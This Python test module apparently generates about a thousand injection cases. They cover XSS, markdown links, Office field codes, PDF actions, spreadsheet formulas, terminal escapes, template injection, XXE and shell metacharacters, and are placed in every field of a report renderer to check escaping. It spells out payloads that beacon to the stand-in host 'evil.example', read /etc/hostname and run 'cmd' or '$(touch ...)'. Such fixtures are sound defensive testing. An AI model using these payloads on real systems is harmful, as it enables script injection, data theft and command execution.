"""What a model, or whoever writes a source, might say to do harm: a thousand cases, from one seed.

A case is a text of one family in one place of a document. It holds a mark of its own, so that whatever got through
says which case it was, and so that a test can see that it was shown at all.
"""

import random
from collections.abc import Iterator, Mapping
from typing import NamedTuple, cast

from quire.nodes.evidence.content import Block, claim
from quire.nodes.render.document import Document, DocumentSection
from tests.nodes.render import sample

HOST = "evil.example"
DEEDS = (
    "alert('{m}')",
    "console.log('{m}')",
    "fetch('http://{h}/{m}')",
    "new Image().src='//{h}/{m}'",
    "document.title='{m}'",
    "window.open('//{h}/{m}')",
)
"""What a script that runs does, each of which a browser shows to a test."""

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "script": (
        "<script>{do}</script>", "<ScRiPt src=//{h}/{m}.js></sCrIpT>", "</title><script>{do}</script>", "<script>{do}",
        "<<script>{do}//<</script>", "<script/x>{do}</script>", "</style><script>{do}</script>",
        "<script type=module>import '//{h}/{m}'</script>", "<script\x0c>{do}</script>",
    ),
    "handler": (
        "<img src=x onerror={do}>", "<body onload={do}>", '" onmouseover="{do}" x="', "' autofocus onfocus='{do}' '",
        "<details open ontoggle={do}>", "<input autofocus onfocus={do}>", "<video><source onerror={do}></video>",
        "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={do}>", '" autofocus onfocus="{do}',
        "<marquee onstart={do}>", "<audio src onerror={do}>",
    ),
    "address": (
        "<a href=javascript:{do}>{m}</a>", "<a href='java\tscript:{do}'>{m}</a>", "<iframe src=javascript:{do}>",
        "<a href='data:text/html,<script>{do}</script>'>{m}</a>", "<object data='javascript:{do}'></object>",
        "<form action=javascript:{do}><button>{m}</button></form>", "<base href=//{h}/{m}/>",
        "<iframe srcdoc='<script>{do}</script>'>", "<a href=vbscript:{do}>{m}</a>", "javascript:{do}//{m}",
    ),
    "drawing": (
        "<svg onload={do}>", "<svg><script>{do}</script></svg>", "<svg><use href=//{h}/{m}#x /></svg>",
        "<svg><animate onbegin={do} attributeName=x></svg>", "<svg><image href=//{h}/{m}.png /></svg>",
        "<math><maction actiontype='statusline#http://{h}/{m}' xlink:href='javascript:{do}'>{m}</math>",
        "<svg><foreignObject><iframe src='javascript:{do}'></foreignObject></svg>",
    ),
    "fetch": (
        "<img src=//{h}/{m}.png>", "<link rel=stylesheet href=//{h}/{m}.css>", "</style><style>@import '//{h}/{m}'",
        '<p style="background:url(//{h}/{m}.png)">', "<meta http-equiv=refresh content='0;url=//{h}/{m}'>",
        "<video poster=//{h}/{m}.png>", "<link rel=prefetch href=//{h}/{m}>", "<embed src=//{h}/{m}>",
        "<img srcset='//{h}/{m}.png 2x'>", "<audio autoplay src=//{h}/{m}.mp3>", "<track src=//{h}/{m}>",
        "<input type=image src=//{h}/{m}.png>", "<table background=//{h}/{m}.png>",
    ),
    "parser": (
        '<noscript><p title="</noscript><img src=x onerror={do}>">', "<!--><img src=x onerror={do}>-->",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={do}&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror={do}>">', "<![CDATA[><img src=x onerror={do}>]]>",
        "<template><script>{do}</script></template>", '<xmp><p title="</xmp><img src=x onerror={do}>">',
        "&lt;script&gt;{do}&lt;/script&gt;", "&#60;img src=x onerror={do}&#62;",
        "\uff1cscript\uff1e{do}\uff1c/script\uff1e",
        "<textarea></textarea><img src=x onerror={do}>", "<plaintext>{m}", "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    ),
    "link": (
        "[{m}](javascript:{do})", "[{m}](<http://{h}/{m}>)", "![{m}](http://{h}/{m}.png)", "<http://{h}/{m}>",
        "[![{m}](http://{h}/{m}.png)](javascript:{do})", "[{m}][x]\n\n[x]: javascript:{do}", "![{m}]\n\n[{m}]: //{h}",
        "http://{h}/{m}", "www.{h}/{m}", "{m}@{h}", "ftp://{h}/{m}", "<javascript:{do}>", "[{m}]: http://{h} '{m}'",
        "https://www.{h}/{m}?a=1&b=2", "xmpp:{m}@{h}/x", "mailto:{m}@{h}", "[{m}](data:text/html;base64,PHNjcmlwdD4=)",
        "\\[{m}](http://{h}/{m})", "![](//{h}/{m}.png){m}", "[[{m}|http://{h}]]",
    ),
    "block": (
        "# {m}", "```{m}\n<script>{do}</script>", "~~~ {m}", "> {m}", "{m}\n===", "1. {m}", "- [ ] {m}", "    {m}",
        "| a | {m} |\n|---|---|\n| <img src=//{h}/{m}> | b |", "<div>\n{m}\n</div>", "[^1]: {m}", "{m}\\", "***{m}***",
        "$$\\href{{javascript:{do}}}{{{m}}}$$", "\\<script>{do}</script>", "`` ` `` <img src=//{h}/{m}>", "::: {m}",
        "---\ntitle: {m}\n---", "{m} | <img src=//{h}/{m}> |", "<!-- {m}", "{m} -->", "~~{m}~~ __{m}__ *{m}*",
    ),
    "field": (
        'HYPERLINK "http://{h}/{m}"', '{{ INCLUDEPICTURE "http://{h}/{m}.png" \\d }}',
        "\x13 DDEAUTO c:\\\\cmd {m}\x14 \x15",
        'DDE excel "\\\\\\\\{h}\\\\{m}"', "</w:t></w:r><w:r><w:instrText>HYPERLINK {m}</w:instrText></w:r><w:r><w:t>",
        "<w:hyperlink r:id='rId99'>{m}</w:hyperlink>", "INCLUDETEXT '/etc/hostname' {m}", "MACROBUTTON {m} {m}",
        "<w:object><o:OLEObject Type='Link' ProgID='{m}'/></w:object>", "<w:altChunk r:id='{m}'/>",
    ),
    "entity": (
        "]]>{m}", "&xxe;{m}", "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/hostname'>]>{m}&xxe;", "&#x1b;{m}",
        "&{m};",
        "<?xml-stylesheet href='http://{h}/{m}'?>", "<xi:include href='/etc/hostname'/>{m}", "<?php echo '{m}'; ?>",
        "</w:p></w:body></w:document>{m}", "\ufeff{m}\ufffe\uffff", "{m}&#0;",
    ),
    "paragraph": (
        '<a href="http://{h}/{m}">{m}</a>', '<img src="http://{h}/{m}.png" width="9" height="9"/>{m}',
        '<img src="/etc/hostname"/>{m}', '<link href="http://{h}/{m}">{m}</link>', '<onDraw name="x" label="{m}"/>',
        "</para><para>{m}", '<seq id="{m}"/>', '<font name="{m}" size="900">{m}</font>', '<a name="evidence-1"/>{m}',
        '<unichar code="27"/>{m}', "<br/><br/>{m}", "<greek>{m}</greek>", "<bullet>{m}</bullet>",
        '<a href="file:/x">{m}</a>',
    ),
    "object": (
        ") /S /JavaScript /JS (app.alert\\('{m}'\\)) (", "/Launch /F (cmd.exe) {m}", "endstream endobj 9 0 obj {m}",
        ">> /OpenAction << /S /URI /URI (http://{h}/{m}) >> <<", "\\) Tj ET ({m}", "<feff> /EmbeddedFile {m}",
        "%PDF-1.7 {m}",
        "trailer << /Root 1 0 R >> {m}", "({m}\\", "xref 0 9 {m}",
    ),
    "formula": (
        '=HYPERLINK("http://{h}/{m}";"{m}")', "+cmd|' /C calc'!{m}", "-2+3+cmd|' /C calc'!{m}", "@SUM(1+1)*cmd|'{m}'",
        "\t=1+1 {m}", "\r=1+1 {m}", '=WEBSERVICE("http://{h}/{m}")', "\uff1d1+1 {m}", '"=1+1,{m}',
        "=cmd|'/C calc'!'{m}'",
        ' =IMPORTXML("http://{h}/{m}","//a")', "-{m}",
    ),
    "terminal": (
        "\x1b[2J{m}", "\x1b]8;;http://{h}/{m}\x1b\\{m}\x1b]8;;\x1b\\", "\x1b]52;c;{m}\x07", "\x9b31m{m}", "\x90{m}\x9c",
        "{m}\b\b\b", "{m}\rapproved", "\x07{m}", "\x7f{m}", "\x1bP{m}\x1b\\", "\x1b[6n{m}", "\x0e{m}\x0f", "\x85{m}",
        "[link=http://{h}/{m}]{m}[/link]", "[red]{m}[/]", "[/{m}]", "[@click=quit]{m}[/]", "\x1b]0;{m}\x07", "\x00{m}",
    ),
    "direction": (
        "\u202e{m}\u202c", "\u2066{m}\u2069", "{m}\u200f", "\u061c{m}", "{m}\U000e0041\U000e0042", "\u2028{m}\u2029",
        "{m}\u202dtxt.exe", "a\u200bb{m}\ufeff", "\ufff9{m}\ufffb", "\u2067{m}",
    ),
    "template": (
        "{{{{ 7*7 }}}} {m}", "{{% include '/etc/hostname' %}} {m}", "${{7*7}} {m}", "<%= 7*7 %> {m}", "#{{7*7}} {m}",
        "{{{{ config }}}} {m}", "%s%n%x {m}", "{{0.__class__}} {m}", "{{m:>100000000}} {m}", "{{# {m} #}}",
    ),
    "file": (
        "../../../../etc/{m}", "C:\\Windows\\{m}", "\\\\{h}\\share\\{m}", "file:///etc/{m}", "{m}\x00.md", "-rf {m}",
        "{m};id",
        "$(touch {m})", "`touch {m}`", "|{m}", "{m}\n.md", "~/{m}", "/dev/stdin {m}", "{m}.docm", "con {m}",
    ),
    "size": ("{m}" + "W" * 900, "{m}" + "[" * 200, "{m} " * 60, "{m}" + "\u0301" * 300, "{m}" + "&lt;" * 90),
}  # fmt: skip
"""By what they would use: templates with ``{m}`` for the mark, ``{do}`` for a deed, ``{h}`` for a host."""

AROUND = (
    "{}",
    "{}",
    "{}",
    '">{}',
    "'>{}",
    "-->{}",
    "</title>{}",
    ")){}",
    "`{}",
    "\\{}",
    "{}<",
    "a {} b",
    " {} ",
    "|{}|",
    "*{}",
)
PLACES = (
    *("title", "subtitle", "cover label", "cover value", "warning", "question", "section title", "reason", "model"),
    *("heading", "sentence", "unsupported sentence", "open sentence", "item", "numbered item", "quotation", "note"),
    *("fact label", "fact value", "caption", "column", "cell", "status", "derivation", "source name", "source title"),
    *("address", "quoted evidence"),
    *("chart caption", "bar", "bar's figure", "series"),
)
"""Of a document, wherever a text that is not ours may stand."""


class Case(NamedTuple):
    """A text in a place."""

    mark: str
    family: str
    place: str
    text: str


def cases(documents: int, seed: int = 7) -> Iterator[dict[str, Case]]:
    """Give documents' texts, a case for every place of each; every family comes to every place."""
    rng, families = random.Random(seed), list(FAMILIES)
    for n in range(documents):
        made = {}
        for at, place in enumerate(PLACES):
            family, mark = families[(n + at) % len(families)], f"case{n:03}{at:02}"
            template = rng.choice(AROUND).replace("{}", rng.choice(FAMILIES[family]))
            deed = rng.choice(DEEDS).format(m=mark, h=HOST)
            made[place] = Case(mark, family, place, _filled(template, m=mark, h=HOST, do=deed))
        yield made


def _filled(template: str, **values: str) -> str:
    """Fill a template in, whose own braces stand twice."""
    for name, value in values.items():
        template = template.replace("{" + name + "}", value)
    return template.replace("{{", "{").replace("}}", "}")


def document_of(made: Mapping[str, Case]) -> Document:
    """Make a document with every case in its place."""
    said = {place: case.text for place, case in made.items()}
    evidence = sample.evidence("x", said["address"], said["quoted evidence"])
    evidence["source"] = said["source name"]
    blocks: list[Block] = [
        {"kind": "heading", "text": said["heading"]},
        {
            "kind": "paragraph",
            "claims": [
                claim(said["sentence"], "source", evidence),
                claim(said["unsupported sentence"], "unsupported"),
                claim(said["open sentence"], "open"),
            ],
        },
        {"kind": "list", "claims": [claim(said["item"], "fixed")]},
        {"kind": "list", "ordered": True, "claims": [claim(said["numbered item"], "fixed")]},
        {"kind": "quote", "claims": [claim(said["quotation"], "source", evidence)]},
        {"kind": "note", "level": "warning", "claims": [claim(said["note"], "fixed")]},
        {"kind": "facts", "rows": [[claim(said["fact label"], "fixed"), claim(said["fact value"], "brief")]]},
        {
            "kind": "table",
            "caption": said["caption"],
            "columns": [sample.column(said["column"]), sample.column("B")],
            "rows": [
                [claim(said["cell"], "fixed"), claim("Good", "fixed", status=said["status"])],
                [claim("5", "computed", how=said["derivation"])],
            ],
        },
        {
            "kind": "chart",
            "caption": said["chart caption"],
            "columns": [sample.column(said["column"]), sample.column("Series"), sample.column("Cost")],
            "rows": [
                [
                    claim(said["bar"], "source", evidence),
                    claim(said["series"], "fixed"),
                    claim(said["bar's figure"], "source", evidence),
                ],
            ],
            "chart": {
                "form": "bars",
                "unit": said["bar"],
                "marks": [{"row": 0, "cell": 2, "values": ["9" * 60], "series": said["series"]}],
            },
        },
    ]
    written = sample.section("one", said["section title"], sample.content(*blocks))
    written["models"] = {"writer": said["model"]}
    failed = sample.missing("two", "Two", "failed", " ".join(said["reason"].split("\n")))
    return Document(
        title=said["title"],
        subtitle=said["subtitle"],
        blueprint="general-report",
        mode="model",
        facts={said["fact label"]: said["fact value"]},
        cover=[[said["cover label"], said["cover value"]]],
        sections=[written, cast("DocumentSection", failed)],
        sources=[{**sample.source("x", said["source title"], 1), "name": said["source name"]}],
        warnings=[said["warning"]],
        open_questions=[said["question"]],
    )
